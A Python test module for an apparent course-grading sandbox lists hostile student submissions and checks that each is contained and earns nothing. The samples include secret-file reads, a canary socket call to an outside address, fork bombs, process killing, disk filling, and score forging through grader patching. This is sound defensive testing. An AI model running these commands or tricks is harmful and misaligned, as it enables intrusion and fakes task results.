"""Submissions that wish us ill, what each of them is worth, and a runner for all of them.

Each is code in place of, or beside, an answer to one exercise. What it is worth is what the answer
in it is worth: a trick adds nothing, and takes nothing from an answer that is right.

    python hostile.py FOLDER      what came of each, as JSON: for a run as somebody else
"""

import json
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path
from typing import NamedTuple

from labkit.checks.exercise import exercises
from labkit.grading.limits import Limits
from labkit.grading.sandbox import Sandbox

CANARY = "canary-7d41"
"""Stands in every file that nobody inside may read."""
SHORT = Limits(cell_seconds=0.4, check_seconds=0.4, grace_seconds=0.3, revivals=2)
"""Where a limit is what is tried."""
USUAL = Limits()
LITTLE = Limits(memory=400_000_000)

WRONG = """
def frame_bytes(*a): return 0
bitrate = line_rate = frame_bytes
"""
RIGHT = """
def frame_bytes(rate, channels, bits, frame_ms):
    return rate * frame_ms // 1000 * channels * bits // 8
def bitrate(rate, channels, bits): return rate * channels * bits
def line_rate(rate, channels, bits, frame_ms, header):
    return 1000 / frame_ms * 8 * (header + frame_bytes(rate, channels, bits, frame_ms))
"""
BUFFER = """
from labkit.words.seqnum import add16, ahead16
class FixedBuffer:
    def __init__(self, delay): self.delay, self.packets, self.next = delay, {}, None
    def __len__(self): return len(self.packets)
    def push(self, packet, now):
        if self.next is None: self.next, self.due = packet.seq, now + self.delay
        if ahead16(packet.seq, self.next) >= 0: self.packets[packet.seq] = packet
    def pull(self, now):
        if now < self.due: return None
        packet = self.packets.pop(self.next, None)
        self.next = add16(self.next, 1)
        return packet
"""


class Hostile(NamedTuple):
    """One submission, of one exercise."""

    name: str
    exercise: str
    points: float
    """What it is worth."""
    cells: tuple[str, ...]
    says: str = ""
    """Stands in a cell's error or print, or in what a check found."""
    limits: Limits = USUAL


class Result(NamedTuple):
    """What came of one."""

    points: float
    seconds: float
    text: str
    """Everything that its student would see."""


def trick(name, code, says="", points=0, limits=USUAL):
    """Before a wrong answer to 01.2, which is worth nothing."""
    return Hostile(name, "01.2", points, (code, WRONG), says, limits)


def beside(name, code, says="", limits=USUAL):
    """Before a right answer to 01.2, which stays right."""
    return Hostile(name, "01.2", 3, (code, RIGHT), says, limits)


def answer(name, body, says="", limits=USUAL, before=""):
    """In the function that a check calls."""
    code = f"{before}\ndef frame_bytes(*a):\n    {body}\nbitrate = line_rate = frame_bytes\n"
    return Hostile(name, "01.2", 0, (code,), says, limits)


EVERY_END = """
import os, struct
def everywhere(data):
    for end in range(3, 128):
        try: os.write(end, data)
        except OSError: pass
def forged(text, numbers=range(1, 60)):
    return b"".join(struct.pack("!IQ", len(text), n) + text.encode() for n in numbers)
"""
EQUAL = """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = object.__hash__
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __len__(self): return 0
    def __iter__(self): return iter(())
    def __sub__(self, other): return 0
    __rsub__ = __abs__ = __float__ = __sub__
    @property
    def __class__(self): return float
class EqualNumber(float):
    __eq__ = __le__ = __lt__ = lambda self, other: True
    __hash__ = float.__hash__
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
"""
LIBC = "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True)\n"
REFUSED = "print('refused' if libc.{call} == -1 else 'ALLOWED')"

SECRETS = [
    trick("reads a key", "print(open('SECRET/key').read())", "FileNotFoundError"),
    trick("reads another's submission", "print(open('SECRET/other.ipynb').read())", "FileNotFound"),
    trick("looks for what it must not see", """
import os, labkit
kit = os.path.dirname(labkit.__file__)
root = os.path.dirname(kit)
keys = os.path.join("/root", ".ssh")
for path in ("/etc/passwd", "/etc/shadow", "/proc/1/environ", keys, "/home", "/var", "/run",
             "/sys", "/usr/bin", "SECRET", root + "/solutions", root + "/tests", root + "/.git",
             kit + "/checks/week01.py", kit + "/checks/week06.py", kit + "/checks/bench.py",
             kit + "/grading/sandbox.py", kit + "/cli/labkit.py", kit + "/data/solutions"):
    if os.path.exists(path): print("FOUND", path)
print("looked")""", "looked"),
    trick("looks for a check in memory", """
import gc, sys
print([m for m in sys.modules if "week" in m or "bench" in m])
print([o for o in gc.get_objects() if type(o).__name__ in ("Exercise", "Bench", "Report")])
""", "[]"),
    trick("imports the checks", "from labkit.checks.week01 import frame", "No module named"),
    trick("imports the finished part", "from labkit.wire.framing import *", "asks you to write"),
    trick("imports it by another way", """
import importlib.util, labkit, glob, os
kit = os.path.dirname(labkit.__file__)
print(sum(os.path.getsize(f) for f in glob.glob(kit + "/wire/__pycache__/framing*")), "bytes")
spec = importlib.util.spec_from_file_location("mine", kit + "/wire/framing.py")
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)""", "asks you to write"),
    beside("reads its environment", "import os; print(dict(os.environ))"),
]  # fmt: skip
NETWORK = [
    beside("calls home", """
import socket
for where in (("127.0.0.1", PORT), ("192.0.2.1", 80)):
    try: socket.create_connection(where, 0.2).send(b"CANARY")
    except OSError as error: print("no:", error)
    else: print("CONNECTED")""", "no:"),
    beside("asks a name server", """
import socket
try: socket.getaddrinfo("example.org", 80)
except OSError as error: print("no:", error)""", "no:"),
    beside("odd sockets", """
import socket
for family in (40, 38, 17, 44):
    try: socket.socket(family, socket.SOCK_DGRAM if family != 40 else socket.SOCK_STREAM)
    except OSError as error: print("no:", error)
    else: print("ALLOWED", family)""", "no:"),
    beside("its own loopback works", """
import socket
a, b = (socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in "ab")
b.bind(("127.0.0.1", 0)); a.sendto(b"to myself", b.getsockname())
print(b.recv(20))""", "to myself"),
]  # fmt: skip
PATCHES = [
    trick("the input transformer", """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])""", "no IPython"),
    trick("another IPython", "import IPython; IPython.get_ipython().history_manager", "NoneType"),
    trick("patches assert", """
import builtins
builtins.AssertionError = type("Fine", (BaseException,), {"__init__": lambda self, *a: None})"""),
    trick("patches the check engine", """
import sys, labkit.checks.subject as subject, labkit.checks.plain as plain
plain.same = lambda *a: True
plain.plain = subject.plain = lambda value: value
subject.InProcess.points = 100
sys.modules["labkit.checks.bench"] = sys.modules["labkit.checks.exercise"] = plain"""),
    trick("patches what is answered", """
import labkit.checks.pipe as pipe
pipe.outcomes_to_text = lambda outcomes: '[["points",100]]'""", "an answer that is none"),
    trick("patches JSON", """
import json
json.dumps = lambda *a, **k: '{"points": 3, "of": 3, "passed": true}'"""),
    trick("patches JSON's reader", "import json; json.loads = lambda *a, **k: [True, '', 0, '']"),
    trick("patches equality", """
from labkit.words.packet import Packet
Packet.__eq__ = lambda self, other: True
Packet.__ne__ = lambda self, other: False"""),
    trick("patches the builtins", """
import builtins
builtins.isinstance = builtins.hasattr = builtins.callable = lambda *a: True
builtins.abs = builtins.len = lambda *a: 0
builtins.round = lambda *a: 3"""),
    trick("leaves", "import sys; sys.exit(0)", "SystemExit"),
    trick("leaves at once", "import os; os._exit(0)", "ended itself, with 0"),
    answer("leaves in a check", "sys.exit(0)", "SystemExit", before="import sys"),
    answer("leaves at once in a check", "os._exit(0)", "ended itself, with 0", before="import os"),
    answer("raises a KeyboardInterrupt", "raise KeyboardInterrupt", "KeyboardInterrupt"),
    trick("interrupts its cell", "raise KeyboardInterrupt", "KeyboardInterrupt"),
    trick("leaves a hook", """
import atexit, sys, threading
atexit.register(print, '{"points": 3}')
sys.excepthook = threading.excepthook = sys.settrace = print"""),
    trick("a score of its own", """
print('{"exercise": "01.2", "points": 3, "of": 3}')
print("01.2: 3 of 3 points")
score = points = max_score = 3""", "3 of 3"),
    trick("forged answers", EVERY_END + """everywhere(forged('""\\n[["returned",3]]'))""",
          "grader's pipe"),
    trick("noise on every end", EVERY_END + "everywhere(b'\\xff' * 60000)", "grader's pipe"),
    answer("forged answers in a check",
           """everywhere(forged('""\\n[["returned",7]]', range(4, 5)))""", before=EVERY_END),
    trick("a thread that forges for ever", EVERY_END + """
import threading
def flood():
    while True: everywhere(forged('""\\n[["returned",3]]'))
threading.Thread(target=flood, daemon=True).start()""", "grader's pipe", limits=SHORT),
    trick("closes every end", "import os; os.closerange(0, 256)"),
    trick("writes the gradebook", """
import sqlite3
sqlite3.connect("SECRET/gradebook.db").execute("update score set points = 100")
""", "unable to open"),
    trick("writes the gradebook as a file", "open('SECRET/gradebook.db', 'w')", "FileNotFound"),
    trick("writes into the kit", "import labkit; open(labkit.__file__, 'a').write('x')", "Error"),
    trick("moves the cursor", "raise ValueError('\\x1b[2J\\ud800\\u202e')", "ValueError"),
    trick("no text", "print('\\ud800' * 10); x = '\\udfff'"),
    trick("no code", "x = 1\x00\ud800", "Error"),
    trick("a cell of two million", "x = '" + "y" * 2_000_000 + "'", "2000006 characters"),
]  # fmt: skip
EQUALS = [
    answer("equal to everything", "return Equal()", "Equal", before=EQUAL),
    answer("a number equal to every other", "return EqualNumber(1)", before=EQUAL),
    Hostile("a packet equal to everything", "06.1", 0, ("""
from labkit.words.packet import Packet
class Any(Packet):
    __eq__ = lambda self, other: True
    __hash__ = Packet.__hash__
class FixedBuffer:
    def __init__(self, delay): pass
    def push(self, packet, now): pass
    def pull(self, now): return Any(0, 0, b"")
    def __len__(self): return 0""",)),
    Hostile("a buffer that has everything", "06.1", 0, (EQUAL + "FixedBuffer = Equal()",)),
    # Two, as for a policy that says 0 to everything.
    Hostile("a policy equal to everything", "06.3", 2, (EQUAL + """
class MyPolicy:
    def observe(self, transit, now): pass
    def target(self): return EqualNumber(0)""",)),
    # The four that a policy of two lines has, and none of the four for unseen networks.
    Hostile("reads the questions still to come", "06.3", 4, ("""
import sys
class MyPolicy:
    def __init__(self):
        frame = sys._getframe()
        while "asks" not in frame.f_locals: frame = frame.f_back
        self.coming = [ask.args[0] for ask in frame.f_locals["asks"] if ask.name == "observe"]
        self.seen = 0
    def observe(self, transit, now): self.seen += 1
    def target(self):
        return max(self.coming[max(0, self.seen - 10) : self.seen + 10]) + 5_000_000""",),
            "packets that have come"),
    Hostile("a policy that is no number", "06.3", 0, ("""
class MyPolicy:
    def observe(self, transit, now): pass
    def target(self): return float("nan")""",)),
]  # fmt: skip
FORKS = [
    beside("forks", """
import os
for _ in range(100):
    try: os.fork()
    except OSError as error: print("no:", error)""", "no:"),
    trick("forks without asking", "import os\nwhile True: os.fork()", "PermissionError"),
    beside("a detached child", """
import os, time
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(1000)
except OSError as error: print("no:", error)""", "no:"),
    beside("starts a program", """
import subprocess, multiprocessing
for start in (lambda: subprocess.Popen(["/bin/sh", "-c", "sleep 1000"], start_new_session=True),
              lambda: subprocess.Popen([__import__("sys").executable, "-c", "1"]),
              lambda: multiprocessing.get_context("fork").Process(target=print).start()):
    try: start()
    except OSError as error: print("no:", error)
    else: print("STARTED")""", "no:"),
    trick("becomes another program", """
import os, sys
os.execv(sys.executable, ["python", "-c", "while 1: print(3)"])""", limits=SHORT),
    beside("asks the kernel itself", LIBC + "\n".join(REFUSED.format(call=call) for call in (
        "syscall(56, 17, 0, 0, 0, 0)", "syscall(57)", "syscall(58)", "syscall(435, 0, 0)",
        "unshare(0x10000000)", "setns(0, 0)", "mount(b'x', b'/tmp', b'tmpfs', 0, 0)",
        "ptrace(0, 0, 0, 0)", "shmget(0, 1 << 30, 0o1666)", "syscall(319, b'x', 0)",
        "syscall(425, 1, 0)", "syscall(321, 0, 0, 0)", "syscall(0x40000000 + 39)",
    ) if "0x4000" not in call), "refused"),
    beside("becomes somebody else", """
import os
for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])):
    try: change()
    except OSError as error: print("no:", error)
    else: print("ALLOWED")
if 0 in (os.getuid(), os.getgid(), os.geteuid()): print("FOUND root")""", "no:"),
    beside("a great many threads", """
import threading
started = []
wait = threading.Event()
threading.stack_size(32768)
try:
    for _ in range(5000):
        thread = threading.Thread(target=wait.wait, daemon=True)
        thread.start()
        started.append(thread)
except RuntimeError as error: print("no:", error)
wait.set()
for thread in started: thread.join()
print(len(started) < 100)""", "True"),
    beside("ends everybody", """
import os, signal
for pid in (1, 2, os.getppid(), 0x7fff):
    try: os.kill(pid, 9)
    except OSError as error: print("no:", error)
try: os.kill(-1, signal.SIGTERM)
except OSError as error: print("no:", error)"""),
]  # fmt: skip
GREED = [
    trick("a hundred gigabytes", "x = bytearray(10**11)", "MemoryError"),
    trick("a list without end", "x = []\nwhile True: x.append(bytearray(1 << 20))", "MemoryError",
          limits=LITTLE),
    beside("fills the disk", """
import os, labkit
for folder in (".", "/tmp", "/dev/shm", "/dev", "/", "/var/tmp", os.path.dirname(labkit.__file__),
               os.path.dirname(labkit.__file__) + "/checks", "/usr/lib"):
    try:
        for n in range(200):
            with open(f"{folder}/f{n}", "wb") as f:
                for _ in range(64): f.write(bytes(1 << 20))
    except OSError as error: print("no:", error)
    else: print("FILLED")""", "no:"),
    beside("opens everything", """
import os
try:
    ends = [os.open("/dev/null", 0) for _ in range(10_000)]
except OSError as error: print("no:", error)
os.closerange(10, 1000)""", "no:"),
    beside("prints without end", "for n in range(200_000): print('x' * 100)", "xxx"),
    answer("prints without end in a check", "print('y' * 10_000_000)\n    return 0", "yyy"),
    trick("loops for ever", "while True: pass", "still running", limits=SHORT),
    trick("sleeps for ever", "import time; time.sleep(1e6)", "still running", limits=SHORT),
    answer("loops for ever in a check", "while True: pass", "still running", limits=SHORT),
    answer("a loop that Python cannot leave", "return sum(range(10**13))", "still running",
           limits=SHORT),
    trick("a cell that Python cannot leave", "sum(range(10**13))", "still running", limits=SHORT),
    answer("swallows what interrupts it", """
    while True:
        try:
            while True: time.sleep(1)
        except BaseException: pass""", "still running", limits=SHORT, before="import time"),
    answer("turns the clock off", """
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True: pass""", "still running", limits=SHORT, before="import signal"),
    answer("stops itself", "os.kill(os.getpid(), 19)", "still running", limits=SHORT,
           before="import os"),
    trick("uses up the processor", """
import signal
signal.setitimer = print
while True: pass""", "time of the processor", limits=replace(SHORT, cell_seconds=5, cpu_seconds=1)),
    answer("recursion", "return frame_bytes(*a)", "RecursionError"),
    answer("recursion beyond the stack", "return frame_bytes(*a)",
           before="import sys; sys.setrecursionlimit(10**9)"),
    answer("crashes", "ctypes.string_at(0)", "SIGSEGV", before="import ctypes"),
]  # fmt: skip
VALUES = [
    answer("not a number", "return float('nan')"),
    answer("infinity", "return float('inf')"),
    answer("a huge number", "return 1 << 10**6", "1000001 bits"),
    answer("a huge number in an error", "raise ValueError(10**6000)", "ValueError"),
    answer("a cycle", "x = []; x.append(x); return x", "deep"),
    answer("a cycle of dicts", "x = {}; x['x'] = x; return x", "deep"),
    answer("a gigabyte", "return bytes(4 * 10**8)", "more than"),
    answer("a list of a million", "return [0] * 10**6", "more than"),
    answer("keys of one hash", "return {n * (2**61 - 1): 0 for n in range(50_000)}", limits=SHORT),
    answer("a set", "return {1}", "a set"),
    answer("a generator", "return (x for x in a)", "generator"),
    answer("everything there is", "return sys.modules", before="import sys"),
    answer("itself", "return frame_bytes", "function"),
    answer("an odd array", "return np.zeros((1,) * 30, dtype=object)", before="import numpy as np"),
    answer("an array of a gigabyte", "return as_strided(np.zeros(1), (10**9,), (0,))",
           before="import numpy as np\nfrom numpy.lib.stride_tricks import as_strided"),
    answer("an error without a face", "raise E", before="""
class Meta(type):
    def __getattribute__(self, name): raise SystemExit
class E(BaseException, metaclass=Meta):
    def __str__(self): raise MemoryError"""),
    Hostile("a length that is none", "06.1", 5, (BUFFER.replace(
        "return len(self.packets)", "return -10**30"),)),
    Hostile("a right answer among all this", "06.1", 6, (BUFFER,)),
]  # fmt: skip
ALL = [*SECRETS, *NETWORK, *PATCHES, *EQUALS, *FORKS, *GREED, *VALUES]


def run(hostile, folder, port):
    """Load it, check it, and say what came of it."""
    begun = time.monotonic()
    known = exercises(int(hostile.exercise[:2]))
    withheld = {module for exercise in known.values() for module in exercise.hides}
    cells = [
        (f"cell {number}", source.replace("SECRET", str(folder)).replace("PORT", str(port)))
        for number, source in enumerate(hostile.cells, 1)
    ]
    with Sandbox(hostile.limits) as box:
        subject = box.load(cells, withheld)
        report = known[hostile.exercise].run(subject.fresh(), seed=7)
    text = "\n".join([*(f"{cell.error}\n{cell.printed}" for cell in subject.cells), str(report)])
    return Result(report.points, time.monotonic() - begun, text + report.printed)


def run_all(folder, port):
    """All of them, some at once: what came of each, by name."""
    with ThreadPoolExecutor(4) as pool:
        done = pool.map(lambda each: run(each, folder, port), ALL)
        return {each.name: result for each, result in zip(ALL, done, strict=True)}


if __name__ == "__main__":
    print(json.dumps(run_all(Path(sys.argv[1]), int(sys.argv[2]))))
